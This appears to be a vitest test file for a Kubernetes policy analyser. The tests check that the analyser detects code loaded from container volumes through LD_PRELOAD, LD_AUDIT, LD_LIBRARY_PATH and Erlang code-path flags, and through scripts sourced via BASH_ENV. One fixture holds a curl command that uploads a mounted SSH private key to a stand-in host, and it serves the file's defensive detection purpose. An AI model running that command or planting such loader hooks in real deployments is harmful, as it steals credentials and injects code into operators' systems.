/**
 * Code the loaders take from a container's volumes (native-loaders.ts,
 * ST2-SEC-030) and the script BASH_ENV makes bash source first
 * (container-scripts.ts), read through collectCommandEffects as a render's
 * containers run them.
 */
import { describe, expect, it } from 'vitest';
import type { Manifest } from '../../src/core/manifest.js';
import { collectCommandEffects, type CommandEffect } from '../../src/policy/command-effects.js';

const SPEC = ['spec', 'template', 'spec'];
const ELF = Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0x02, 0x01, 0xff]).toString('base64');

function job(container: Record<string, unknown>, pod: Record<string, unknown> = {}): Manifest {
  return { apiVersion: 'batch/v1', kind: 'Job', metadata: { name: 'j', namespace: 'st2-prod' }, spec: { template: { spec: { containers: [{ name: 'c', image: 'stackstorm/st2api:3.8.1', ...container }], ...pod } } } };
}

function effectsOf(...resources: Manifest[]): CommandEffect[] {
  return collectCommandEffects(resources, new Map(resources.flatMap((r, i) => (r['kind'] === 'Job' ? [[i, [SPEC]] as const] : []))), 'st2-prod', new Date('2026-12-07T00:00:00Z'));
}

const env = (vars: Record<string, string>): Array<Record<string, unknown>> => Object.entries(vars).map(([name, value]) => ({ name, value }));
const configMap = (name: string, field: 'data' | 'binaryData', files: Record<string, string>): Manifest => ({ apiVersion: 'v1', kind: 'ConfigMap', metadata: { name, namespace: 'st2-prod' }, [field]: files });
const loaded = (effects: readonly CommandEffect[]): string[] => effects.flatMap((e) => (e.effect === 'preload' ? [`${e.variable} ${e.file}`] : []));

/** A container with these variables and the `libs` volume (a ConfigMap unless said) mounted at /opt/libs. */
const withLibs = (vars: Record<string, string>, volume: Record<string, unknown> = { configMap: { name: 'libs' } }, mountPath = '/opt/libs'): Manifest =>
  job({ env: env(vars), volumeMounts: [{ name: 'libs', mountPath, readOnly: true }] }, { volumes: [{ name: 'libs', ...volume }] });

describe('code the loaders take from volumes', () => {
  it.each<[string, Manifest[], string[]]>([
    ['LD_LIBRARY_PATH to a ConfigMap of libraries', [configMap('libs', 'binaryData', { 'libz.so.1': ELF, 'README.txt': 'x' }), withLibs({ LD_LIBRARY_PATH: '/opt/libs' })], ['LD_LIBRARY_PATH /opt/libs/libz.so.1']],
    ['one directory of a list, semicolons too', [configMap('libs', 'binaryData', { 'libssl.so.3': ELF }), withLibs({ LD_LIBRARY_PATH: '/usr/lib/x86_64-linux-gnu;/opt/libs/' })], ['LD_LIBRARY_PATH /opt/libs/libssl.so.3']],
    ['a library mounted by subPath into an image directory', [configMap('libs', 'binaryData', { 'libz.so.1': ELF }), job({ env: env({ LD_LIBRARY_PATH: '/usr/local/lib' }), volumeMounts: [{ name: 'libs', mountPath: '/usr/local/lib/libz.so.1', subPath: 'libz.so.1' }] }, { volumes: [{ name: 'libs', configMap: { name: 'libs' } }] })], ['LD_LIBRARY_PATH /usr/local/lib/libz.so.1']],
    ['an emptyDir a sidecar writes at run time', [job({ env: env({ LD_LIBRARY_PATH: '/opt/libs' }), volumeMounts: [{ name: 'libs', mountPath: '/opt/libs', readOnly: true }] }, { volumes: [{ name: 'libs', emptyDir: {} }], initContainers: [{ name: 'w', image: 'busybox:1.36.1', command: ['sh', '-c', 'cat /dev/urandom > /l/libz.so.1'], volumeMounts: [{ name: 'libs', mountPath: '/l' }] }] })], ['LD_LIBRARY_PATH /opt/libs']],
    ['LD_AUDIT naming a ConfigMap library', [configMap('libs', 'binaryData', { 'audit.so': ELF }), withLibs({ LD_AUDIT: '/opt/libs/audit.so' })], ['LD_AUDIT /opt/libs/audit.so']],
    ['LD_PRELOAD from envFrom', [configMap('libs', 'binaryData', { 'hook.so': ELF }), configMap('loader-env', 'data', { LD_PRELOAD: '/opt/libs/hook.so' }), job({ envFrom: [{ configMapRef: { name: 'loader-env' } }], volumeMounts: [{ name: 'libs', mountPath: '/opt/libs' }] }, { volumes: [{ name: 'libs', configMap: { name: 'libs' } }] })], ['LD_PRELOAD /opt/libs/hook.so']],
    ['erl -pa to a ConfigMap .beam', [configMap('libs', 'binaryData', { 'hook.beam': ELF }), withLibs({ RABBITMQ_SERVER_ADDITIONAL_ERL_ARGS: '-pa /opt/libs -s hook' })], ['RABBITMQ_SERVER_ADDITIONAL_ERL_ARGS /opt/libs/hook.beam']],
    ['ERL_ZFLAGS -pz with two directories', [configMap('libs', 'binaryData', { 'hook.beam': ELF }), withLibs({ ERL_ZFLAGS: '+K true -pz /usr/lib/erlang/extra /opt/libs -sname x' })], ['ERL_ZFLAGS /opt/libs/hook.beam']],
    ['RABBITMQ_SERVER_CODE_PATH', [configMap('libs', 'binaryData', { 'hook.beam': ELF }), withLibs({ RABBITMQ_SERVER_CODE_PATH: '/opt/libs' })], ['RABBITMQ_SERVER_CODE_PATH /opt/libs/hook.beam']],
  ])('%s', (_what, resources, expected) => {
    expect(loaded(effectsOf(...resources))).toEqual(expected);
  });

  it.each<[string, Manifest[]]>([
    ["the image's own library directory", [withLibs({ LD_LIBRARY_PATH: '/usr/lib/x86_64-linux-gnu:/opt/stackstorm/st2/lib' })]],
    ['a ConfigMap of text files on the path', [configMap('libs', 'data', { 'notes.txt': 'x', 'ld.conf': 'y' }), withLibs({ LD_LIBRARY_PATH: '/opt/libs' })]],
    ['libraries mounted but on no search path', [configMap('libs', 'binaryData', { 'libz.so.1': ELF }), withLibs({})]],
    ['an image volume', [withLibs({ LD_LIBRARY_PATH: '/opt/libs', LD_AUDIT: '/opt/libs/a.so' }, { image: { reference: 'registry.example.org/libs:1.0' } })]],
    ['LD_AUDIT naming a file the ConfigMap lacks', [configMap('libs', 'binaryData', { 'other.so': ELF }), withLibs({ LD_AUDIT: '/opt/libs/audit.so' })]],
    ['erl -s of a module of the release, no code path', [withLibs({ RABBITMQ_SERVER_ADDITIONAL_ERL_ARGS: '-s rabbit_prelaunch +A 128' })]],
    ['erl flags naming a volume without -pa', [configMap('libs', 'binaryData', { 'hook.beam': ELF }), withLibs({ ERL_FLAGS: '-config /opt/libs/advanced' })]],
  ])('%s: nothing loaded', (_what, resources) => {
    expect(loaded(effectsOf(...resources))).toEqual([]);
  });
});

describe('the script BASH_ENV names', () => {
  const bashEnv = (script: string, named: Record<string, unknown> = { value: '/opt/env/env.sh' }): Manifest[] => [
    configMap('shenv', 'data', { 'env.sh': script, p: '/opt/env/env.sh\n' }),
    job({ command: ['bash', '-ec', 'st2 action list'], env: [{ name: 'BASH_ENV', ...named }], volumeMounts: [{ name: 'shenv', mountPath: '/opt/env' }, { name: 'ssh', mountPath: '/home/stanley/.ssh' }] }, { volumes: [{ name: 'shenv', configMap: { name: 'shenv' } }, { name: 'ssh', secret: { secretName: 'st2-ssh' } }] }),
    { apiVersion: 'v1', kind: 'Secret', metadata: { name: 'st2-ssh', namespace: 'st2-prod' }, data: { stanley_rsa: 'eA==' } },
  ];
  const send = 'curl -s --data-binary @/home/stanley/.ssh/stanley_rsa https://collect.example.net/k || true\n';
  const sends = (effects: readonly CommandEffect[]): string[] => effects.flatMap((e) => (e.effect === 'upload' ? [`${e.program} ${e.destination}`] : []));
  it.each<[string, Manifest[], string[]]>([
    ['a sourced script posting a mounted key', bashEnv(send), ['curl collect.example.net']],
    ['BASH_ENV from a ConfigMap key without a newline', bashEnv(send, { valueFrom: { configMapKeyRef: { name: 'shenv2', key: 'p' } } }).concat([configMap('shenv2', 'data', { p: '/opt/env/env.sh' })]), ['curl collect.example.net']],
    // bash opens the name as written: a trailing newline names a file that is not there.
    ['BASH_ENV with a trailing newline sources nothing', bashEnv(send, { valueFrom: { configMapKeyRef: { name: 'shenv', key: 'p' } } }), []],
    ['a sourced script setting a prompt and PATH', bashEnv('export PS1="st2> "\nexport PATH=/opt/stackstorm/st2/bin:$PATH\nalias l="ls -l"\n'), []],
    ['a health check inside the cluster', bashEnv('curl -s http://st2api:9101/ >/dev/null || echo "st2api not ready"\n'), []],
  ])('%s', (_what, resources, expected) => {
    expect(sends(effectsOf(...resources))).toEqual(expected);
  });
});
